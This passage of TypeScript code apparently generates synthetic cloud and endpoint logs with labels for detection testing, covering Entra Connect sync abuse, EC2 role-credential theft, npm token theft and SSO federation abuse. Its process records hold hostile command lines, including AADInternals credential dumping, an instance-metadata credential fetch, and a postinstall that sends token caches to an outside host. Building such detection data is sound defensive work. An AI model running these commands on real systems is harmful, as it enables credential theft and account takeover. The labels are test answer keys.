    signIn({ t: t0 + 20000, u: adm, app: 'aadps', res: 'aadgraph', ip, site: admOwner.home, dev: ws, interactive: true, mfa: false, ua: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291' });
    signIn({ t: t0 + 260000, u: adm, app: 'graphps', res: 'graph', ip, site: admOwner.home, dev: ws, interactive: true, mfa: false, ua: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291' });
    for (let k = 0; k < 4; k++) signIn({ t: t0 + 300000 + k * 300000, u: adm, app: 'graphps', res: 'graph', ip, site: admOwner.home, dev: ws, interactive: false });
    const by = { upn: adm.upn, id: adm.id, ip };
    audit(t0 + 900000, 'Add user', 'UserManagement', by, [userTarget(backdoor)]);
    audit(t0 + 960000, 'Add member to role', 'RoleManagement', by, [userTarget(backdoor, roleProp('Global Administrator'))]);
    audit(t0 + 1500000, 'Add service principal credentials', 'ApplicationManagement', by, [{ id: guid(), displayName: 'app-mail-archiver', type: 'ServicePrincipal', modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: `["[KeyIdentifier=${guid()},KeyType=AsymmetricX509Cert,KeyUsage=Verify,DisplayName=CN=mail-archiver]"]` }] }]);
    audit(t0 + 1560000, 'Update application – Certificates and secrets management ', 'ApplicationManagement', by, [{ id: guid(), displayName: 'app-mail-archiver', type: 'Application', modifiedProperties: [] }]);
    void s;
  }
  // 2. Storm-0501: Sync_ account credentials used from outside the sync server, password resets and role grant, then sign-in as the victim
  {
    // variant (even seeds): the attacker works ON the compromised sync server, so the Sync_ account signs in from the sync server's own IP
    const onServer = o.seed % 2 === 0;
    const site = onServer ? OFFICES[0]! : ATT_SITES[0]!; const ip = onServer ? syncIp : vps(185);
    const victim = users.filter((u) => u.cls === 'cloud-admin' && u.admin)[1]?.admin ?? users[3]!;
    const t0 = A + 2 * 3600000 + 41 * 60000;
    const s = begin(onServer ? 'storm0501-sync-abuse-onserver' : 'storm0501-sync-abuse', `Storm-0501: Entra Connect Sync_ account abused${onServer ? ' from the sync server itself' : ' from outside'}, password reset and role grant`, onServer ? [] : [ip], [syncUpn, victim.upn, victim.sam, syncHost.name, 'svc-aadc-admin'], t0 - 3600000, t0 + 3 * 3600000);
    proc({ t: t0 - 1800000, dev: syncHost, acct: { sam: 'svc-aadc-admin', upn: '', sid: 'S-1-5-21-3623811015-3361044348-30300820-9100' }, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -ep bypass -c "Import-Module AADInternals; Get-AADIntSyncCredentials | ConvertTo-Json"', parent: 'cmd.exe', parentCmd: 'cmd.exe', grand: 'WmiPrvSE.exe' });
    s.unique.push('AADInternals');
    const sync = { upn: syncUpn, display: 'On-Premises Directory Synchronization Service Account', id: syncId + 'aaaa' };
    signIn({ t: t0, u: sync, app: 'aadps', res: 'aadgraph', ip, site, dev: null, interactive: false, ua: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.5458' });
    signIn({ t: t0 + 30000, u: sync, app: 'graphps', res: 'graph', ip, site, dev: null, interactive: false });
    audit(t0 + 120000, 'Reset user password', 'UserManagement', { upn: syncUpn, id: sync.id, ip }, [userTarget(victim)]);
    signIn({ t: t0 + 600000, u: victim, app: 'portal', res: 'arm', ip, site, dev: null, interactive: true, mfa: false, ua: CLI_UA.browser });
    signIn({ t: t0 + 720000, u: victim, app: 'azps', res: 'arm', ip, site, dev: null, interactive: true, mfa: false });
    audit(t0 + 900000, 'Add member to role', 'RoleManagement', { upn: victim.upn, id: victim.id, ip }, [userTarget(users[5]!, roleProp('Privileged Role Administrator'))]);
  }
  // 3. Scattered Spider: EC2 instance-role credentials used from outside AWS
  {
    const ip = vps(45); const newUser = `svc-${hex(4)}-support`;
    const t0 = A + 9 * 3600000 + 5 * 60000;
    begin('scatteredspider-ec2-creds', 'Scattered Spider: EC2 instance-role credentials used from outside AWS', [ip, newUser], [instanceId, ec2Host.name], t0 - 600000, t0 + 2 * 3600000);
    proc({ t: t0 - 300000, dev: ec2Host, acct: { sam: 'ec2-user', upn: '', sid: '' }, file: 'curl', folder: '/usr/bin/curl', cmd: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-server-role', parent: 'bash', parentCmd: 'bash -i', grand: 'sshd' });
    const base = { type: 'AssumedRole', arn: `arn:aws:sts::${awsAcct}:assumed-role/app-server-role/${instanceId}`, principal: `AROA${hex(8).toUpperCase()}:${instanceId}`, ua: 'aws-cli/2.13.25 Python/3.11.5 Linux/6.2.0-39-generic exe/x86_64.kali.2023 prompt/off command/sts.get-caller-identity', ip, issuer: 'app-server-role', key: `ASIA${hex(16).toUpperCase()}` };
    ct({ t: t0, name: 'GetCallerIdentity', src: 'sts.amazonaws.com', ro: true, ...base });
    ct({ t: t0 + 60000, name: 'ListUsers', src: 'iam.amazonaws.com', ro: true, ...base });
    ct({ t: t0 + 90000, name: 'ListRoles', src: 'iam.amazonaws.com', ro: true, ...base });
    ct({ t: t0 + 300000, name: 'CreateUser', src: 'iam.amazonaws.com', ...base, req: { userName: newUser } });
    ct({ t: t0 + 330000, name: 'AttachUserPolicy', src: 'iam.amazonaws.com', ...base, req: { userName: newUser, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' } });
    ct({ t: t0 + 360000, name: 'CreateAccessKey', src: 'iam.amazonaws.com', ...base, req: { userName: newUser } });
    ct({ t: t0 + 900000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'IAMUser', arn: `arn:aws:iam::${awsAcct}:user/${newUser}`, principal: `AIDA${hex(16).toUpperCase()}`, ua: CLI_UA.browser, ip, user: newUser, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
  }
  // 4. Token theft on a developer laptop, refresh token replayed from a new country
  {
    const dev = tokenDev;
    // variant (even seeds): the token is replayed from a hosting IP in the user's own country (new IP, no new country)
    const sameCountry = o.seed % 2 === 0;
    const site = sameCountry ? { ...dev.home, city: dev.home.cc === 'US' ? 'Dallas' : dev.home.city, lat: dev.home.lat + 0.5 } : ATT_SITES[2]!;
    const ip = sameCountry ? `${dev.home.net.split('.')[0]}.${int(100, 250)}.${int(0, 255)}.${int(1, 254)}` : vps(103);
    const t0 = A + (11 - dev.home.tz) * 3600000 + 3 * 60000;
    begin(sameCountry ? 'token-theft-replay-samecountry' : 'token-theft-replay', 'Token theft from a CLI cache, replay from a new country', [ip, 'cdn-telemetry-sync.net', 'colors-ansi-x'], [dev.upn, dev.sam, dev.device.name], t0 - 60000, t0 + 4 * 3600000);
    const acct = { sam: dev.sam, upn: dev.upn, sid: dev.sid };
    const home = dev.device.os === 'macOS' ? `/Users/${dev.sam}` : `/home/${dev.sam}`;
    proc({ t: t0, dev: dev.device, acct, file: 'sh', folder: '/bin/sh', cmd: `sh -c cat ${home}/.azure/msal_token_cache.json ${home}/.config/gcloud/credentials.db | base64 | curl -s -X POST --data-binary @- https://cdn-telemetry-sync.net/u`, parent: 'node', parentCmd: 'node node_modules/colors-ansi-x/postinstall.js', grand: 'npm' });
    proc({ t: t0 + 20000, dev: dev.device, acct, file: 'python3', folder: '/usr/bin/python3', cmd: `python3 -c "import sqlite3;print(open('${home}/.azure/msal_token_cache.json').read())"`, parent: 'node', parentCmd: 'node node_modules/colors-ansi-x/postinstall.js', grand: 'npm' });
    const t1 = t0 + 95 * 60000;
    // seeds divisible by 3: the replay goes through an anonymizer, which Entra flags (anonymizedIPAddress, medium risk)
    const anon = o.seed % 3 === 0;
    for (let k = 0; k < 5; k++) signIn({ t: t1 + k * 240000, u: dev, app: k < 3 ? 'azcli' : 'graphps', res: k < 3 ? 'arm' : 'graph', ip, site, dev: null, interactive: false, ua: CLI_UA.az('Linux'),
      ...(anon ? { anon: true, risk: 'medium', riskState: 'atRisk', riskEvents: ['anonymizedIPAddress'] } : {}) });
    audit(t1 + 1500000, 'Add service principal credentials', 'ApplicationManagement', { upn: dev.upn, id: dev.id, ip }, [{ id: guid(), displayName: 'app-terraform-ci', type: 'ServicePrincipal', modifiedProperties: [] }]);
    gcp(t1 + 1800000, dev.upn, 'SetIamPolicy', 'cloudresourcemanager.googleapis.com', ip, CLI_UA.gcloud(), `projects/${gcpProject}`);
  }
  // 5. Federated console via SSO: phished user signs in from a new country, federates into AWS console and GCP
  {
    const victim = users.find((u) => u.cls === 'regular' && u !== users[4]) ?? users[6]!;
    const site = ATT_SITES[1]!; const ip = vps(89);
    const t0 = A + 15 * 3600000 + 12 * 60000;
    begin('federated-console-sso', 'Federated console access via SSO from a new country (AWS + GCP)', [ip], [victim.upn, victim.sam], t0 - 60000, t0 + 2 * 3600000);
    signIn({ t: t0, u: victim, app: 'office', res: 'spo', ip, site, dev: null, interactive: true, mfa: true, risk: 'medium', riskState: 'atRisk', riskEvents: ['unfamiliarFeatures'], ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0' });
    signIn({ t: t0 + 120000, u: victim, app: 'awssso', res: 'graph', ip, site, dev: null, interactive: true, mfa: true, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0' });
    const role = 'AWSReservedSSO_ReadOnlyAccess_9f8e7d6c5b';
    ct({ t: t0 + 130000, name: 'AssumeRoleWithSAML', src: 'sts.amazonaws.com', type: 'SAMLUser', arn: '', principal: victim.upn, ua: 'aws-internal/3', ip, req: { roleArn: `arn:aws:iam::${awsAcct}:role/aws-reserved/sso.amazonaws.com/${role}` } });
    const sess = `arn:aws:sts::${awsAcct}:assumed-role/${role}/${victim.upn}`;
    ct({ t: t0 + 140000, name: 'GetSigninToken', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${victim.upn}`, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', ip, issuer: role, consoleType: true, resp: { GetSigninToken: 'Success' } });
    ct({ t: t0 + 150000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${victim.upn}`, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', ip, issuer: role, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
    for (let k = 0; k < 4; k++) ct({ t: t0 + 300000 + k * 120000, name: pick(['ListBuckets', 'DescribeInstances', 'GetSecretValue']), src: pick(['s3.amazonaws.com', 'ec2.amazonaws.com', 'secretsmanager.amazonaws.com']), type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${victim.upn}`, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0', ip, issuer: role, ro: true });
    signIn({ t: t0 + 1800000, u: victim, app: 'gcpsso', res: 'graph', ip, site, dev: null, interactive: true, mfa: true, ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0' });
    gcp(t0 + 1900000, victim.upn, 'google.iam.admin.v1.CreateServiceAccountKey', 'iam.googleapis.com', ip, 'Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0,gzip(gfe)', `projects/${gcpProject}/serviceAccounts/ci-deployer@${gcpProject}.iam.gserviceaccount.com`);
  }
  cur = null;

  // ---------- write
  mkdirSync(o.outDir, { recursive: true });
  const counts: Record<string, number> = {};
  for (const [t, rows] of Object.entries(tables)) {
    rows.sort((a, b) => String(a.TimeGenerated).localeCompare(String(b.TimeGenerated)));
    writeFileSync(join(o.outDir, `${t}.jsonl`), rows.map((x) => JSON.stringify(x)).join('\n') + '\n');
    counts[t] = rows.length;
  }
  const labels: Labels = {
    seed: o.seed, tenantDomain: domain, historyStart: iso(historyStart.getTime()), attackDay: iso(A), scenarios, hard: hardCases,
    actors: Object.fromEntries([...actors].map(([k, v]) => [k, [...v]])), counts,
  };
  return labels;
}
